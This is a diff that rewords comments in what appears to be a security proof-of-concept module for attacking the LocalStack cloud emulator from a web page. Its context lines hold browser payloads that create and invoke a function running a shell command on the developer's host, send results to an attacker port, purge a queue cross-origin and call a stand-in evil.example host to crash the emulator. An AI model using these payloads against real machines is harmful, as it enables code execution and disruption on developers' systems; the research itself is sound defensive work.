@@ -12,7 +12,7 @@ import {
   table,
 } from './sandbox.ts';
 
-// Nothing of it is secret, and the signature is made up.
+// None of it is secret, and the signature is invented.
 const signature = {
   'X-Amz-Algorithm': 'AWS4-HMAC-SHA256',
   'X-Amz-Date': '20260101T000000Z',
@@ -50,11 +50,11 @@ export const rewritePolicy = signedUrl(`${endpoint}/`, 'iam', {
   }),
 });
 
-/** Names no page that it comes from. */
+/** Sends no referrer. */
 export const image = (url: string) =>
   `<img src="${url.replaceAll('&', '&amp;')}" referrerpolicy="no-referrer">`;
 
-/** Says which user it runs as: on the host that would be the developer. */
+/** Reports the user that it runs as: on the host engine, the developer. */
 const code = `
   import { execSync } from 'node:child_process';
   export const handler = async () => execSync('id').toString();
@@ -83,7 +83,7 @@ const bringHome = (attackerPort: number) => `
   });
 `;
 
-/** Creates a function and invokes it until it answers. */
+/** Creates a function and invokes it until it responds. */
 export const createFunction = (attackerPort: number, name = newName()) => `
 <script type="module">
   ${bringHome(attackerPort)}
@@ -105,7 +105,7 @@ export const createFunction = (attackerPort: number, name = newName()) => `
   }
 </script>`;
 
-/** S3 takes forms from any page, and sends the browser to what it was given. */
+/** S3 accepts forms from any page, and redirects the browser to a given URL. */
 export function formUpload(attackerPort: number): string {
   const local = endpoint.replace('127.0.0.1', 'localhost');
   const fields = {
@@ -138,7 +138,7 @@ export function formUpload(attackerPort: number): string {
 </script>`;
 }
 
-/** What a browser sends without asking first: no header of one's choice. */
+/** A request that a browser sends without a preflight: no custom header. */
 export const fetchWithoutCors = () => `
 <script>
   const post = (url, body) =>
@@ -150,7 +150,7 @@ export const fetchWithoutCors = () => `
   navigator.sendBeacon('${queueUrl}', new URLSearchParams({ Action: 'PurgeQueue' }));
 </script>`;
 
-/** LocalStack takes such a host for S3, where any origin may post. */
+/** LocalStack treats such a host as S3, where any origin may post. */
 export const killEmulator = () => `
 <script>
   fetch('http://x.s3.evil.example:${port}/_localstack/health', {
@@ -158,7 +158,7 @@ export const killEmulator = () => `
   });
 </script>`;
 
-/** The name and the value of its one field are, with a \`=\`, JSON. */
+/** The name and the value of its only field, joined by \`=\`, are JSON. */
 export function plainTextForm(): string {
   const name = functionRequest(newName(), { Description: '' }).slice(0, -2);
   return `
@@ -173,7 +173,7 @@ export const sandboxedFrame = (html: string) =>
     .replaceAll('&', '&amp;')
     .replaceAll('"', '&quot;')}"></iframe>`;
 
-/** To such a page the sandbox is its own origin: it reads each response. */
+/** For such a page the sandbox is the same origin: it can read each response. */
 export const readEverything = (attackerPort: number) => `
 <script type="module">
   ${bringHome(attackerPort)}
